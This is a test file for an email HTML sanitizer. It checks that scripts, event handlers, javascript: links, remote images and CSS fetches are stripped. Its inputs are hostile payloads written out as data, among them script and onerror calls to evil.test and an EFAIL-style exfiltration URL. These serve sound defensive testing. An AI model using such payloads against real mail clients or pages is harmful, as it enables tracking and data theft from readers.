// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { ALLOWED_POLICY, BLOCKED_POLICY, filterCss, sanitizeMessageHtml, urlKind } from "./sanitize-html";

const blocked = (html: string) => sanitizeMessageHtml(html, { allowRemote: false });
const allowed = (html: string) => sanitizeMessageHtml(html, { allowRemote: true });

/** The body of the frame document, parsed, for querying. */
function body(srcDoc: string): HTMLElement {
  return new DOMParser().parseFromString(srcDoc, "text/html").body;
}

describe("sanitizeMessageHtml", () => {
  it("removes script elements, blocked or not", () => {
    for (const run of [blocked, allowed]) {
      const { srcDoc } = run('<p>hi</p><script>fetch("https://evil.test/x")</script><noscript>n</noscript>');
      expect(srcDoc).not.toMatch(/<script/i);
      expect(srcDoc).not.toContain("evil.test");
      expect(body(srcDoc).textContent).toContain("hi");
    }
  });

  it("strips event handlers (onerror on an image)", () => {
    const { srcDoc } = blocked(
      `<img src="x" onerror="fetch('https://evil.test/onerror')"><div onclick="x()">d</div>`,
    );
    expect(srcDoc).not.toMatch(/onerror|onclick/i);
    expect(srcDoc).not.toContain("evil.test");
  });

  it("removes javascript: links and keeps the link text", () => {
    const { srcDoc } = blocked(
      '<a href="javascript:alert(1)">Click me</a><a href=" JaVaScRiPt:alert(2)">two</a>',
    );
    expect(srcDoc.toLowerCase()).not.toContain("javascript:");
    expect(body(srcDoc).textContent).toContain("Click me");
  });

  it("removes a remote image while blocked and counts it; keeps it when allowed", () => {
    const html = '<img src="http://127.0.0.1:9/pixel.png" alt="pixel"><img src="//tracker.test/p.gif">';
    const off = blocked(html);
    expect(off.blocked).toBe(2);
    expect(off.srcDoc).not.toContain("127.0.0.1");
    expect(off.srcDoc).not.toContain("tracker.test");
    expect(body(off.srcDoc).querySelectorAll("img")).toHaveLength(2);

    const on = allowed(html);
    expect(on.blocked).toBe(0);
    expect(body(on.srcDoc).querySelector("img")?.getAttribute("src")).toBe("http://127.0.0.1:9/pixel.png");
  });

  it("removes CSS url() references in style attributes and <style> while blocked", () => {
    const html =
      '<style>@import url("https://evil.test/a.css"); body { background: url(https://evil.test/bg.png) }</style>' +
      "<div style=\"background-image: url('http://evil.test/div.png'); color: red\">x</div>";
    const off = blocked(html);
    expect(off.srcDoc).not.toContain("evil.test");
    expect(off.blocked).toBe(3);
    expect(body(off.srcDoc).querySelector("div")?.getAttribute("style")).toContain("color: red");

    const on = allowed(html);
    expect(on.srcDoc).toContain("https://evil.test/bg.png");
  });

  it("removes remote srcset, background and poster while blocked", () => {
    const { srcDoc, blocked: count } = blocked(
      '<img srcset="https://evil.test/a.png 1x, https://evil.test/b.png 2x"><table background="https://evil.test/t.png"><tr><td>t</td></tr></table><video poster="https://evil.test/v.png"></video>',
    );
    expect(srcDoc).not.toContain("evil.test");
    expect(count).toBe(4);
  });

  it("keeps inline data: images and never keeps references to our own pages", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    for (const run of [blocked, allowed]) {
      const doc = body(
        run(`<img src="${png}"><img src="/api/attachments/x/0"><a href="/settings">s</a>`).srcDoc,
      );
      const imgs = doc.querySelectorAll("img");
      expect(imgs[0]?.getAttribute("src")).toBe(png);
      expect(imgs[1]?.hasAttribute("src")).toBe(false);
      expect(doc.querySelector("a")?.hasAttribute("href")).toBe(false);
    }
  });

  it("drops forms, frames, base, meta refresh and link elements", () => {
    const { srcDoc } = blocked(
      '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><link rel="stylesheet" href="https://evil.test/s.css"><form action="https://evil.test/f"><input name="q"></form><iframe src="https://evil.test/i"></iframe><object data="https://evil.test/o"></object>',
    );
    expect(srcDoc).not.toContain("evil.test");
    const doc = body(srcDoc);
    for (const tag of ["base", "form", "input", "iframe", "object", "link"])
      expect(doc.querySelector(tag), tag).toBeNull();
  });

  it("drops SVG and MathML (their own ways to fetch)", () => {
    const { srcDoc } = blocked(
      '<svg><image href="https://evil.test/s.png"/><use href="https://evil.test/u#x"/></svg>',
    );
    expect(srcDoc).not.toContain("evil.test");
  });

  it("opens the frame document with the Content-Security-Policy for the choice", () => {
    expect(blocked("<p>x</p>").srcDoc).toMatch(
      new RegExp(
        `^<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="${BLOCKED_POLICY}">`,
      ),
    );
    expect(allowed("<p>x</p>").srcDoc).toContain(`content="${ALLOWED_POLICY}"`);
  });

  it("keeps outside links, opening them outside the frame", () => {
    const a = body(blocked('<a href="https://example.org/page">page</a>').srcDoc).querySelector("a");
    expect(a?.getAttribute("href")).toBe("https://example.org/page");
    expect(a?.getAttribute("target")).toBe("_blank");
    expect(a?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("survives the EFAIL direct-exfiltration shape (an unterminated image URL)", () => {
    const { srcDoc, blocked: count } = blocked('<img src="http://127.0.0.1:9/direct?\r\nsecret\r\n">');
    expect(srcDoc).not.toContain("127.0.0.1");
    expect(count).toBe(1);
  });
});

describe("filterCss", () => {
  it("drops a style that names a host through CSS escapes or image-set()", () => {
    expect(filterCss("a { background: \\75 rl(https://evil.test/x) }", false).css).toBe("");
    expect(filterCss('a { background-image: image-set("https://evil.test/x.png" 1x) }', false).css).toBe("");
  });

  it("leaves ordinary CSS alone", () => {
    const css = "p { color: #333; margin: 0 } /* a comment */";
    expect(filterCss(css, false)).toEqual({ css, blocked: 0 });
  });
});

describe("urlKind", () => {
  it("treats control characters, backslashes and any scheme as the browser does", () => {
    expect(urlKind(" h\ttps://x.test/")).toBe("remote");
    expect(urlKind("\\\\x.test/a")).toBe("remote");
    expect(urlKind("ftp://x.test/")).toBe("remote");
    expect(urlKind("DATA:image/png;base64,AA")).toBe("inline");
    expect(urlKind("cid:part1")).toBe("inline");
    expect(urlKind("images/a.png")).toBe("local");
  });
});
